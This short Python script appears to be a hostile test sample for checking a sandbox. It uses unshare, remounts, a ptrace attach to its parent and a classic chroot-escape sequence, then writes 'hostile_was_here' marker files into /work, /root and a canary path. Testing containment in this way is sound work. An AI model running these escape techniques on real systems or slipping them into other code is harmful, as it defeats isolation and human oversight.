"""New namespaces, mounts, ptrace, and a way out of the chroot."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x10000000 | 0x20000)
libc.mount(b"none", b"/", None, 1 << 5 | 4096, None)
libc.mount(b"tmpfs", b"/usr", b"tmpfs", 0, None)
libc.ptrace(16, os.getppid(), 0, 0)
libc.setns(os.open("/", os.O_RDONLY), 0)
try:
    os.mkdir("out")
    here = os.open("/", os.O_RDONLY)
    os.chroot("out")
    os.fchdir(here)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
except OSError:
    pass
for place in ("/work", "/root", "CANARY"):
    try:
        with open(f"{place}/hostile_was_here", "w") as file:
            file.write("x")
    except OSError:
        continue
